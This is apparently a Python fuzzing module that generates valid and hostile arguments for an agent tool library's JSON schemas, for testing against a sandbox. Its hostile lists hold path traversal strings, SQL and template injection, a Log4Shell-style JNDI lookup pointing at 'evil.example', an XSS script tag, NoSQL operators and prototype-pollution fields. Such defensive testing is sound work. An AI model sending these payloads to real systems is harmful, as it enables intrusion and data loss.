"""Hypothesis strategies for tool arguments, derived from each tool's JSON schema: valid ones (with real sandbox ids)
and hostile ones (wrong types, huge and odd unicode text, traversal, injection, missing and extra fields)."""

from __future__ import annotations

import os
import re
import string
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

from piggy_agent_tools.client._core import ID_PATTERN
from piggy_agent_tools.sandbox import Sandbox

FULL = os.environ.get("PIGGY_RELIABILITY", "").lower() == "full"


def scale(short: int, full: int) -> int:
    """The short count for ``make test``, the full one under ``PIGGY_RELIABILITY=full``."""
    return full if FULL else short


HUGE = "A" * 100_000
HUGE_UNICODE = ("\u202e\U0001f437e\u0301\u0000" * 20_000)[:100_000]

TRAVERSAL = ("../", "../../contacts", "%2e%2e/", "%2e%2e%2f..%2fshops", "..%2F..%2Fshops", "a/../../b", "..", ".")
URL_META = ("?", "#", "a?limit=1000", "x#frag", "a&b=c", "a/b", "%00", "a%2Fb", "a\\..\\b")
INJECTION = (
    "' OR 1=1 --",
    "'; DROP TABLE docs; --",
    '" OR ""="',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<script>alert(1)</script>",
    "$where",
    "__proto__",
)
UNICODE = (
    "\u202eevil\u202c",  # RTL override
    "\u05e9\u05dc\u05d5\u05dd",  # Hebrew
    "\u0645\u0631\u062d\u0628\u0627",  # Arabic
    "\U0001f437\U0001f4b8\U0001f525",  # emoji
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",  # ZWJ sequence
    "a\u0000b",  # NUL
    "x\ud800y",  # a lone surrogate: JSON can carry it (json.loads gives one), UTF-8 cannot
    "\u0000",
    "e\u0301\u0301\u0301\u0301",  # combining marks
    "Z\u0334\u0321\u031b\u0353a\u0338l\u0337g\u0338o\u0336",
    "\ufeffBOM",
    "\ud7ff\ue000\uffff",
    " \t\n\r ",
    "",
)
HOSTILE_TEXT: tuple[str, ...] = TRAVERSAL + URL_META + INJECTION + UNICODE + ("null", "None", "true", "-1", "1e309")
HUGE_TEXT = (HUGE, HUGE_UNICODE)

BAD_IDS = (
    "../../shops",
    "%2e%2e%2fcontacts",
    "abc?x=1",
    "abc#frag",
    "' OR 1=1 --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "",
    "a" * 129,
    "\u202e4b62b557",
    "\U0001f437",
    "a\u0000b",
    "a b",
    "-4b62b557",
    HUGE,
)
BAD_EMAILS = ("not-an-email", "a@", "@example.com", "a\u0000@example.com", "' OR 1=1 --", "x" * 300 + "@example.com")
ODD_EMAILS = ("o'reilly+{{7*7}}@example.com", "jane.doe+test@example.com", "JANE.DOE@EXAMPLE.COM")
JUNK: tuple[Any, ...] = ([1, "x", None], {"$gt": ""}, {"nested": {"deeper": [{"x": [1, 2, {"y": None}]}]}}, [[[]]])
_ID_RE = re.compile(ID_PATTERN)

Schema = dict[str, Any]


@dataclass(frozen=True)
class Case:
    """One generated call. ``kind``: ``valid`` (fits the schema; a stricter validator may still refuse it),
    ``invalid`` (surely refused: ``field`` must be named and nothing sent) or ``extra`` (an unknown field added)."""

    args: dict[str, Any]
    kind: str
    field: str | None = None
    how: str = ""


# -- pools of real values ----------------------------------------------------------------------------------------

_KIND_BY_FIELD = {
    "giftcard_transaction_uuid": "giftcard_transaction",
    "webhook_subscription_uuid": "webhook_subscription",
}


def real_values(sandbox: Sandbox, attribute_names: list[str]) -> dict[str, list[Any]]:
    """Real values by argument name, read from the sandbox's own store, so valid calls reach real objects."""
    pool: dict[str, list[Any]] = {"attributes": list(attribute_names)}
    with sandbox.store.tx() as tx:
        for kind, doc in tx.find_any():
            pool.setdefault(f"{kind}_uuid", []).append(doc["uuid"])
        pool["email"] = [d["email"] for d in tx.all("contact") if d.get("email")]
        pool["contact_identifier_value"] = [d["value"] for d in tx.all("contact_identifier")]
        pool["code"] = [d["code"] for d in tx.all("voucher")]
        pool["hash"] = [d["hash"] for d in tx.all("giftcard")]
        pool["external_identifier"] = [d["external_identifier"] for d in tx.all("order")]
    for name, kind in _KIND_BY_FIELD.items():
        pool.setdefault(name, pool.get(f"{kind}_uuid", []))
    pool["reverse_uuid"] = pool.get("credit_reception_uuid", []) + pool.get("reward_reception_uuid", [])
    return {k: v for k, v in pool.items() if v}


# -- schema helpers --------------------------------------------------------------------------------------------------


def resolve(node: Schema, root: Schema) -> Schema:
    while "$ref" in node:
        node = root["$defs"][node["$ref"].rsplit("/", 1)[-1]]
    return node


def branches(node: Schema, root: Schema) -> tuple[list[Schema], bool]:
    """The non-null alternatives of a node and whether null is allowed."""
    node = resolve(node, root)
    options = [resolve(o, root) for o in node.get("anyOf", [node])]
    nullable = any(o.get("type") == "null" for o in options) or ("default" in node and node["default"] is None)
    return [o for o in options if o.get("type") != "null"], nullable


def types_of(node: Schema, root: Schema) -> set[str]:
    options, _ = branches(node, root)
    return {str(o.get("type", "any")) for o in options}


def _looks_like_date(name: str) -> bool:
    return "date" in name or name.endswith(("_at", "_after", "_before"))


# -- valid values --------------------------------------------------------------------------------------------------

iso_dates = st.datetimes().map(lambda d: d.isoformat()) | st.dates().map(str)


def _text(node: Schema, name: str, pool: dict[str, list[Any]]) -> st.SearchStrategy[str]:
    lo, hi = int(node.get("minLength", 0)), node.get("maxLength")
    fits: Callable[[str], bool] = lambda s: len(s) >= lo and (hi is None or len(s) <= hi)  # noqa: E731
    hostile = [s for s in (*HOSTILE_TEXT, *HUGE_TEXT) if fits(s)]
    options: list[st.SearchStrategy[str]] = [
        st.sampled_from(hostile),
        st.sampled_from(hostile),
        st.text(min_size=lo, max_size=min(int(hi or 40), 40)),
    ]
    if pool.get(name):
        options += [st.sampled_from(pool[name])] * 3
    if _looks_like_date(name):
        options += [iso_dates] * 2
    if name == "url":
        options += [st.sampled_from(["https://example.com/hooks/piggy", "http://127.0.0.1:9/x?y=1#z"])] * 2
    return st.one_of(options).filter(fits)


def _uuid(name: str, pool: dict[str, list[Any]]) -> st.SearchStrategy[str]:
    random_ids = st.uuids().map(str)
    real = pool.get(name) or pool.get("reverse_uuid" if name.startswith("reverse") else "", [])
    if not real:
        return random_ids
    return st.one_of(st.sampled_from(real), st.sampled_from(real), st.sampled_from(real), random_ids)


def _email(pool: dict[str, list[Any]]) -> st.SearchStrategy[str]:
    fresh = st.text(string.ascii_lowercase + string.digits, min_size=10, max_size=10).map(
        lambda h: f"fuzz-{h}@example.com"
    )
    return st.one_of(st.sampled_from(pool.get("email") or list(ODD_EMAILS)), fresh, st.sampled_from(ODD_EMAILS))


def valid_value(node: Schema, root: Schema, name: str, pool: dict[str, list[Any]]) -> st.SearchStrategy[Any]:
    """A value that fits the schema node (hostile text included wherever free text fits)."""
    options, nullable = branches(node, root)
    strategies = [_valid_branch(o, root, name, pool) for o in options]
    if nullable:
        strategies.append(st.none())
    return st.one_of(strategies) if strategies else st.none()


def _valid_branch(node: Schema, root: Schema, name: str, pool: dict[str, list[Any]]) -> st.SearchStrategy[Any]:
    if "enum" in node:
        return st.sampled_from(node["enum"])
    kind = node.get("type")
    if kind == "string":
        if node.get("format") == "uuid":
            return _uuid(name, pool)
        if node.get("format") == "email":
            return _email(pool)
        return _text(node, name, pool)
    if kind in ("integer", "number"):
        lo = node.get("minimum", node.get("exclusiveMinimum", -(10**9)))
        hi = node.get("maximum", 10**9)
        if kind == "integer":
            lo = lo + 1 if "exclusiveMinimum" in node else lo
            return st.integers(min_value=int(lo), max_value=int(hi))
        return st.floats(min_value=lo, max_value=hi, exclude_min="exclusiveMinimum" in node, allow_nan=False)
    if kind == "boolean":
        return st.booleans()
    if kind == "array":
        items = resolve(node.get("items", {}), root)
        return st.lists(valid_value(items, root, name, pool), max_size=min(int(node.get("maxItems", 4)), 4))
    if kind == "object" and "properties" in node:
        return valid_args(node, root, pool)
    if kind == "object":
        values = node.get("additionalProperties") or {"type": "string"}
        keys = st.one_of(st.sampled_from(pool.get(name) or ["firstname"]), st.sampled_from(HOSTILE_TEXT))
        return st.dictionaries(keys, valid_value(values, root, name, pool), max_size=3)
    return st.one_of(st.none(), st.integers(), st.text(max_size=10))


def valid_args(schema: Schema, root: Schema, pool: dict[str, list[Any]]) -> st.SearchStrategy[dict[str, Any]]:
    props: dict[str, Schema] = schema.get("properties", {})
    required = set(schema.get("required", []))
    return st.fixed_dictionaries(
        {n: valid_value(p, root, n, pool) for n, p in props.items() if n in required},
        optional={n: valid_value(p, root, n, pool) for n, p in props.items() if n not in required},
    )


# -- surely invalid values -------------------------------------------------------------------------------------------


def invalid_values(node: Schema, root: Schema, name: str) -> list[tuple[Any, str]]:
    """Values the node surely refuses (never ones pydantic's lax mode would coerce), each with what is wrong."""
    options, nullable = branches(node, root)
    types = {str(o.get("type")) for o in options}
    out: list[tuple[Any, str]] = []
    if not nullable:
        out.append((None, "null"))
    if not types & {"array", "object"}:
        out += [(j, "nested junk") for j in JUNK]
    if types <= {"string"}:
        out += [(12345, "wrong type"), (1.5, "wrong type"), (True, "wrong type")]
    if types & {"integer", "number"} and "string" not in types:
        out += [(s, "wrong type") for s in ("' OR 1=1 --", "{{7*7}}", "twelve", HUGE)]
    if types == {"integer"}:
        out.append((1.5, "fraction"))
    if types == {"object"}:
        out += [("{{7*7}}", "wrong type"), ([1], "wrong type")]
        values = options[0].get("additionalProperties")
        if values is not None:
            out.append(({"firstname": {"nested": ["junk"]}}, "nested junk"))
    if types == {"array"}:
        out += [("../", "wrong type"), ([{"$gt": ""}], "nested junk")]
    for option in options:
        out += _invalid_for_branch(option, types)
    return out


def _invalid_for_branch(node: Schema, types: set[str]) -> list[tuple[Any, str]]:
    out: list[tuple[Any, str]] = []
    if "enum" in node and types <= {"string"}:
        out += [(v, "not an option") for v in ("NOT_AN_OPTION", "../", "{{7*7}}", "' OR 1=1 --", HUGE)]
    if node.get("format") == "uuid":
        out += [(v, "malformed uuid") for v in BAD_IDS if not _ID_RE.match(v.strip())]
    if node.get("format") == "email":
        out += [(v, "malformed email") for v in BAD_EMAILS]
    if node.get("type") == "string" and "maxLength" in node and types <= {"string"}:
        out += [("A" * (int(node["maxLength"]) + 1), "too long"), (HUGE_UNICODE, "too long")]
    if node.get("type") == "string" and node.get("minLength", 0) >= 1 and types <= {"string"}:
        out.append(("", "empty"))
    if node.get("type") in ("integer", "number") and types <= {"integer", "number"}:
        if "maximum" in node:
            out += [(node["maximum"] + 1, "too large"), (10**30, "too large")]
        if "minimum" in node:
            out += [(node["minimum"] - 1, "too small"), (-(10**30), "too small")]
        if "exclusiveMinimum" in node:
            out += [(node["exclusiveMinimum"], "too small"), (-(10**30), "too small")]
        if node.get("type") == "number":
            out += [(float("nan"), "not a number"), (float("inf"), "infinite")]
    return out


def invalid_cases(schema: Schema, root: Schema, base: dict[str, Any]) -> list[Case]:
    """Every single-field mutation of a valid ``base`` that must be refused, naming that field."""
    cases = []
    props: dict[str, Schema] = schema.get("properties", {})
    for name in schema.get("required", []):
        cases.append(Case({k: v for k, v in base.items() if k != name}, "invalid", name, "missing"))
    for name, node in props.items():
        for value, how in invalid_values(node, root, name):
            cases.append(Case({**base, name: value}, "invalid", name, how))
    return cases


EXTRA_FIELDS: tuple[tuple[str, Any], ...] = (
    ("__proto__", {"admin": True}),
    ("contact_uuid", "4b62b557-7d2b-5d9f-b2b8-21835bcbe7c6"),
    ("confirm", True),
    ("$where", "1 == 1"),
    ("api_key", "sandbox_stolen"),
    ("limit", 10**9),
    ("x" * 300, "junk"),
    ("nested", {"a": [{"b": {"c": None}}]}),
)


def cases_for(schema: Schema, pool: dict[str, list[Any]]) -> st.SearchStrategy[Case]:
    """Valid, surely invalid and extra-field cases of one tool, in a mix."""
    valid = valid_args(schema, schema, pool)
    props = set(schema.get("properties", {}))
    extra = [(n, v) for n, v in EXTRA_FIELDS if n not in props]

    def mutate(base: dict[str, Any]) -> st.SearchStrategy[Case]:
        invalid = invalid_cases(schema, schema, base)
        options: list[st.SearchStrategy[Case]] = [st.just(Case(base, "valid"))]
        if invalid:
            options.append(st.sampled_from(invalid))
        if extra:
            options.append(st.sampled_from([Case({**base, n: v}, "extra", n, "extra field") for n, v in extra]))
        return st.one_of(options)

    return valid.flatmap(mutate)


def example_value(node: Schema, root: Schema, name: str, pool: dict[str, list[Any]] | None = None) -> Any:
    """One plain valid value for a node (the base that single-field mutations start from); real when known."""
    options, _ = branches(node, root)
    node = options[0] if options else {}
    if pool and pool.get(name) and node.get("type") == "string":
        return pool[name][0]
    if "enum" in node:
        return node["enum"][0]
    kind = node.get("type")
    if kind == "string":
        if node.get("format") == "uuid":
            return "4b62b557-7d2b-5d9f-b2b8-21835bcbe7c6"
        if node.get("format") == "email":
            return "jane.doe@example.com"
        if _looks_like_date(name):
            return "2030-01-01T00:00:00+00:00"
        return "https://example.com/hooks/piggy" if name == "url" else "CARD-000123"
    if kind == "integer":
        return int(node.get("minimum", node.get("exclusiveMinimum", 0) + 1 if "exclusiveMinimum" in node else 1))
    if kind == "number":
        return 1.0
    if kind == "boolean":
        return True
    if kind == "array":
        return []
    if kind == "object":
        return example_args(node, root) if "properties" in node else {}
    return None


def example_args(schema: Schema, root: Schema, pool: dict[str, list[Any]] | None = None) -> dict[str, Any]:
    """The required arguments only, each with a plain valid value."""
    props: dict[str, Schema] = schema.get("properties", {})
    return {n: example_value(props[n], root, n, pool) for n in schema.get("required", [])}


SWEEP_SHORT = (
    "../",
    "%2e%2e/",
    "?",
    "#",
    "' OR 1=1 --",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\u202eevil\u202c",
)
SWEEP_SHORT += ("\U0001f437\U0001f4b8", "a\u0000b", "x\ud800y", "e\u0301\u0301\u0301", "", HUGE)
ODD_IDS = ("not-a-uuid", "A" * 128, "00000000-0000-0000-0000-000000000000", "4B62B557-7D2B-5D9F-B2B8-21835BCBE7C6")


def hostile_sweep(schema: Schema, root: Schema, pool: dict[str, list[Any]], full: bool) -> list[Case]:
    """Every free-text field with every hostile text, and every id field with odd but well-formed ids, on a real base.

    A value that no longer fits the schema (too long, empty) is an ``invalid`` case; the rest are ``valid`` ones.
    """
    base = example_args(schema, root, pool)
    texts = (*HOSTILE_TEXT, *HUGE_TEXT) if full else SWEEP_SHORT
    cases = []
    for name, node in schema.get("properties", {}).items():
        options, _ = branches(node, root)
        strings = [o for o in options if o.get("type") == "string" and "enum" not in o and o.get("format") != "email"]
        if not strings or len(options) != len(strings):
            continue
        string_node = strings[0]
        values = ODD_IDS if string_node.get("format") == "uuid" else texts
        lo, hi = int(string_node.get("minLength", 0)), string_node.get("maxLength")
        for value in values:
            fits = len(value) >= lo and (hi is None or len(value) <= hi)
            cases.append(Case({**base, name: value}, "valid" if fits else "invalid", name, "hostile text"))
    return cases


def plain_args(schema: Schema, pool: dict[str, list[Any]], rng: Any) -> dict[str, Any]:
    """A quick valid-looking call from real values, without Hypothesis: required fields always, optional ones
    sometimes; amounts small and often negative (to reach the destructive side of money tools)."""
    out: dict[str, Any] = {}
    required = set(schema.get("required", []))
    for name, node in schema.get("properties", {}).items():
        if name not in required and rng.random() < 0.7:
            continue
        options, _ = branches(node, schema)
        option = options[0] if options else {}
        kind = option.get("type")
        if pool.get(name) and kind == "string":
            out[name] = rng.choice(pool[name])
        elif kind == "integer":
            lo, hi = option.get("minimum", -(10**9)), option.get("maximum", 10**9)
            small = [
                v for v in (-500, -100, -1, 1, 5, 100) if lo <= v <= hi and v > option.get("exclusiveMinimum", lo - 1)
            ]
            out[name] = rng.choice(small or [lo])
        else:
            out[name] = example_value(node, schema, name, pool)
    return out


def realistic_args(schema: Schema, pool: dict[str, list[Any]]) -> st.SearchStrategy[dict[str, Any]]:
    """Calls a careful model would make: real ids and values, small amounts (so approved ones really write)."""
    return st.randoms(use_true_random=False).map(lambda rng: plain_args(schema, pool, rng))
